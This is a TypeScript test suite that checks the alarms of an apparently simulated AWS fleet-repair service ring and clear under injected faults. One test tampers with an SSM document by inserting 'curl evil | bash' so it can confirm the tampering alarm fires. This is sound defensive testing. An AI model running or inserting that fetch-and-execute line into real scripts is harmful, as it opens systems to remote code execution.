import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { CallFault } from '../../lab/aws/faults.ts';
import { readTemplate } from '../../lab/aws/stack.ts';
import type { SimulatedNode } from '../../lab/sim/node.ts';
import { synthLab } from '../../lab/synth.ts';
import { disabled, edit, garble, hurried, isAlarm, putUnreadable, remake } from './alarm-causes.ts';
import { failing, logGroupOf, MINUTE_MS, openScene, REPAIRABLE, type Scene } from './support.ts';

const CLUSTERS = ['demo', 'breaks', 'dark', 'sick'];
const assembly = synthLab({
  clusters: CLUSTERS.map((name) => ({
    name,
    mode: 'repair',
    sweeps: name === 'demo',
    logGroups: [logGroupOf(name)],
    nodeTags: ['eks:cluster-name'],
  })),
  sweepMinutes: 5,
});
const RESOURCES = Object.values(readTemplate(assembly.assembly, assembly.stackName).Resources);
const ALARMS = RESOURCES.filter(({ Type }) => isAlarm(Type)).map(({ Properties }) => ({
  name: String(Properties?.AlarmName).replace(/^fleetmend-/, ''),
  acts: Properties?.AlarmActions !== undefined,
}));
const DOCUMENT =
  RESOURCES.filter(({ Type }) => Type === 'AWS::SSM::Document')
    .map(({ Properties }) => String(Properties?.Name))
    .find((name) => name.includes('cri-dockerd-check')) ?? '';

let scene: Scene;
let nodes: readonly SimulatedNode[];
beforeAll(async () => {
  scene = await openScene(assembly, { edit });
  nodes = scene.addNodes('demo', 3);
});
afterAll(() => scene.lab.stop());

const Message = z.object({ AlarmName: z.string(), NewStateValue: z.string() });
/** What the topic was told: `heartbeat ALARM`. */
const told = (): readonly string[] =>
  scene.lab.notifications.flatMap(({ message }) => {
    const { data } = Message.safeParse(JSON.parse(message));
    return data === undefined ? [] : [`${data.AlarmName.replace(/^fleetmend-/, '')} ${data.NewStateValue}`];
  });
const ringing = (): readonly string[] =>
  scene.lab.alarms
    .states()
    .filter(({ state }) => state === 'ALARM')
    .map(({ name }) => name.replace(/^fleetmend-/, ''));
const send = (name: string, body: string): void => {
  const queue = scene.lab.queues.all().find(({ settings }) => settings.name === `fleetmend-${name}`);
  queue?.send({ body, ...(queue.settings.fifo ? { groupId: 'g', deduplicationId: `${scene.lab.now()}` } : {}) });
};
const withFaults = async (faults: readonly CallFault[], work: () => Promise<void>): Promise<void> => {
  scene.lab.faults.calls = [...faults];
  try {
    await work();
  } finally {
    scene.lab.faults.calls = [];
  }
};
const rang = new Set<string>();
/** Lets time pass, a minute after the other, until each of these was in alarm once; `eachMinute` keeps the cause alive. */
const untilRinging = async (names: readonly string[], minutes: number, eachMinute = async () => {}): Promise<void> => {
  const seen = new Set<string>();
  for (let minute = 0; minute < minutes && names.some((name) => !seen.has(name)); minute++) {
    await eachMinute();
    await scene.lab.advance(MINUTE_MS);
    for (const name of ringing()) seen.add(name);
  }
  expect(names.filter((name) => !seen.has(name))).toEqual([]);
  for (const name of names) rang.add(name);
};
/** Puts right what a person would, until no alarm rings: dead letters are discarded, nodes in quarantine released. */
const untilQuiet = async (minutes: number): Promise<void> => {
  for (let minute = 0; minute < minutes && ringing().length > 0; minute++) {
    if (ringing().some((name) => name.endsWith('-dlq-not-empty'))) await discard();
    if (ringing().includes('nodes-quarantined')) await release();
    await scene.lab.advance(MINUTE_MS);
  }
  expect(ringing()).toEqual([]);
};
/** Breaks a node, which says so in its log. */
const reportFault = async (): Promise<void> => {
  for (const node of nodes.slice(0, 1)) {
    node.breakWith(REPAIRABLE);
    await scene.logFault(node);
  }
};
const discard = async (): Promise<void> => {
  for (const [queue, letters] of Object.entries(scene.lab.queues.deadLetters()))
    if (letters.length > 0) await scene.remediate({ action: 'discard', queue, reason: 'the cause is gone' });
};
const release = async (): Promise<void> => {
  for (const { cluster, instanceId } of await scene.report({ query: 'quarantine' }))
    await scene.remediate({ action: 'release', cluster, instanceIds: [instanceId], reason: 'the cause is gone' });
};
const INBOXES = ['signals', 'progress', 'lanes'];
const WORKERS = ['signal-intake', 'command-tracker', 'run-controller'];

describe('the alarms', { timeout: 600_000 }, () => {
  it('are quiet while all is well', async () => {
    await scene.lab.advance(12 * MINUTE_MS);
    expect(ringing()).toEqual([]);
  });

  it('about dead letters ring for input that cannot be read, and resolve when it is discarded', async () => {
    for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
    for (const name of ['log-classifier', 'scheduler']) scene.lab.invokeAsync(`fleetmend-${name}`, 'no object');
    const letters = ['signals', 'progress', 'run-controller', 'log-classifier', 'scheduler'];
    await untilRinging([...letters.map((name) => `${name}-dlq-not-empty`), 'scheduler-errors'], 15);
    await untilQuiet(15);
  });

  it('about documents ring for one that a stranger has changed', async () => {
    const content = await remake(scene, DOCUMENT, (own) =>
      own.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash'),
    );
    await scene.start({ action: 'check', cluster: 'demo', remediation: 'cri-dockerd', reason: 'a look' });
    await untilRinging(['document-refused'], 5);
    await remake(scene, DOCUMENT, () => content);
    await untilQuiet(15);
  });

  it('about the clusters ring for their metrics and log lines, and resolve', async () => {
    await scene.lab.putLogEvents(logGroupOf('demo'), 's', ['Failed to create sandbox for pod']);
    const put = (name: string, value: number) =>
      scene.lab.alarms.putMetric('ContainerInsights', name, { ClusterName: 'demo' }, value);
    put('node_filesystem_utilization', 91);
    put('cluster_failed_node_count', 1);
    const kinds = ['sandbox-failures', 'disk-filling', 'failed-nodes'];
    await untilRinging(
      kinds.map((kind) => `cluster-demo-${kind}`),
      5,
    );
    await untilQuiet(15);
  });

  it('ring where the table fails, the heartbeat among them', async () => {
    const names = WORKERS.map((name) => `${name}-failed-records`);
    const errors = ['audit-query-errors', 'operator-api-errors'];
    const request = { action: 'check', cluster: 'demo', requestedBy: 'test', reason: 'nobody waits for the answer' };
    await withFaults([{ service: 'dynamodb', kind: 'internal-error' }], async () => {
      scene.lab.invokeAsync('fleetmend-operator-api', request);
      await untilRinging(
        [...names, ...errors, 'heartbeat', 'lanes-dlq-not-empty', 'operator-api-dlq-not-empty'],
        30,
        async () => {
          await reportFault();
          const commandId = '11111111-1111-1111-1111-111111111111';
          send('progress', JSON.stringify({ kind: 'look', commandId, attempt: 1 }));
          send('lanes.fifo', JSON.stringify({ kind: 'lane', lane: 'demo/pause-image' }));
          await scene.lab.invoke('fleetmend-audit-query', { query: 'open' }).catch(() => undefined);
          await scene.remediate({ action: 'check', cluster: 'demo', reason: 'a look' }).catch(() => undefined);
        },
      );
    });
    await untilQuiet(40);
  });

  it('about errors ring for functions that die', async () => {
    const dying = [...WORKERS, 'log-classifier'];
    const crashes = dying.map(
      (name): CallFault => ({ functionName: `fleetmend-${name}`, kind: 'crash-before', times: 1 }),
    );
    await withFaults(crashes, async () => {
      await untilRinging(
        dying.map((name) => `${name}-errors`),
        10,
        reportFault,
      );
    });
    await untilQuiet(40);
  });

  it('ring where the event source mappings are disabled, wakes fail, and the topic refuses notices', async () => {
    await scene.lab.deploy({ edit: disabled });
    nodes[1]?.breakWith(REPAIRABLE);
    const { runId } = await scene.start({
      ...{ action: 'repair', cluster: 'demo', remediation: 'pause-image', reason: 'its row cannot be read' },
      instanceIds: nodes.slice(1, 2).map(({ instanceId }) => instanceId),
    });
    await garble(scene, runId);
    scene.lab.putEvent({ source: 'fleetmend', detailType: 'Run Ended', detail: {} }, 'fleetmend');
    for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
    await reportFault();
    const noWakes: CallFault = { service: 'sqs', functionName: 'fleetmend-scheduler', kind: 'internal-error' };
    const names = INBOXES.flatMap((name) => [`${name}-waiting`, `${name}-not-polled`]);
    await withFaults([noWakes], async () => {
      await untilRinging([...names, 'sweeps-late', 'scheduler-failed-records', 'rules-dlq-not-empty'], 40);
    });
    await scene.lab.deploy({ edit });
    await untilRinging(['run-stuck', 'run-controller-unreadable-rows'], 10);
    await untilQuiet(40);
  });

  it('about throttles ring where Lambda refuses invocations', async () => {
    scene.lab.faults.throttledInvocationRate = 1;
    try {
      const names = [...WORKERS, 'log-classifier', 'scheduler'];
      await untilRinging(
        names.map((name) => `${name}-throttles`),
        20,
        async () => {
          await scene.lab.putLogEvents(logGroupOf('demo'), 's', ['failed to get sandbox image']);
          for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
        },
      );
    } finally {
      scene.lab.faults.throttledInvocationRate = 0;
    }
    await untilQuiet(40);
  });

  it('about throttled calls ring where EC2 and SSM refuse', async () => {
    const [silent] = scene.addNodes('demo', 1, { offline: true, pings: true });
    await scene.start({ action: 'check', cluster: 'demo', reason: 'one node is silent' });
    await scene.lab.advance(5000);
    const { commandId = '' } = scene.chronicle.commands.at(-1) ?? {};
    const throttled = [
      ...['signal-intake', 'run-controller'].map((name) => ({ service: 'ec2', functionName: `fleetmend-${name}` })),
      ...['command-tracker', 'scheduler'].map((name) => ({ service: 'ssm', functionName: `fleetmend-${name}` })),
    ].map((at): CallFault => ({ ...at, kind: 'throttle', times: 2 }));
    await withFaults(throttled, async () => {
      const detail = { 'instance-id': nodes[2]?.instanceId, state: 'running' };
      scene.lab.putEvent({ source: 'aws.ec2', detailType: 'EC2 Instance State-change Notification', detail });
      await untilRinging(
        [...WORKERS, 'scheduler'].map((name) => `${name}-calls-throttled`),
        20,
        async () => {
          await reportFault();
          send('progress', JSON.stringify({ kind: 'look', commandId, attempt: 1 }));
        },
      );
    });
    silent?.setOffline(false);
    await untilQuiet(60);
  });

  it('about rows that cannot be read, about what is given up and what is left due, ring', async () => {
    const silent = scene.addNodes('demo', 3, { offline: true, pings: true });
    const checkSilent = () =>
      Promise.all(
        silent.map(({ instanceId }) =>
          scene.start({ action: 'check', cluster: 'demo', instanceIds: [instanceId], reason: 'is silent' }),
        ),
      );
    const runs = await checkSilent();
    await scene.lab.advance(5000);
    await putUnreadable(scene, nodes[0]?.instanceId ?? '');
    const functionName = 'fleetmend-run-controller';
    const faults: CallFault[] = [
      { service: 'events', functionName, kind: 'internal-error' },
      { service: 'ssm', operation: 'CancelCommand', functionName, kind: 'internal-error' },
    ];
    const rows = ['signal-intake', 'scheduler'].map((name) => `${name}-unreadable-rows`);
    await withFaults(faults, async () => {
      for (const { runId } of runs) await scene.remediate({ action: 'cancel', runId, reason: 'SSM refuses it' });
      await reportFault();
      await untilRinging([...rows, 'notice-given-up', 'cancel-given-up'], 20);
    });
    await scene.lab.deploy({ edit: hurried });
    await checkSilent();
    await untilRinging(['overdue-left'], 20);
    await scene.lab.deploy({ edit });
    for (const node of silent) node.setOffline(false);
    await untilQuiet(60);
  });

  it('about repairs ring: a breaker, a registry that is silent, a node in quarantine', async () => {
    const broken = scene.addNodes('breaks', 4, { faultOf: () => failing('SandboxStartFailed') });
    const dark = scene.addNodes('dark', 3, { faultOf: () => failing('RegistryUnreachable') });
    const sick = scene.addNodes('sick', 1, { faultOf: () => failing('NodeRoleLacksECR') });
    let minute = 0;
    await untilRinging(['breaker-opened', 'registry-hold', 'nodes-quarantined'], 70, async () => {
      if (minute++ % 17 === 0) await scene.logFault(...broken, ...dark, ...sick);
    });
    for (const node of [...broken, ...dark, ...sick]) node.breakWith(REPAIRABLE);
    await untilQuiet(90);
  });

  it('were all in alarm and resolved, and every alarm for people has notified them of both', () => {
    const clusters = ALARMS.filter(({ name }) => name.startsWith('cluster-') && !name.startsWith('cluster-demo-'));
    const others = new Set(clusters.map(({ name }) => name));
    expect([...rang].toSorted()).toEqual(
      ALARMS.map(({ name }) => name)
        .filter((name) => !others.has(name))
        .toSorted(),
    );
    const messages = new Set(told());
    const silent = ALARMS.filter(({ acts }) => acts).flatMap(({ name }) =>
      [`${name} ALARM`, `${name} OK`].filter((message) => !messages.has(message)),
    );
    expect(silent).toEqual([]);
  });
});
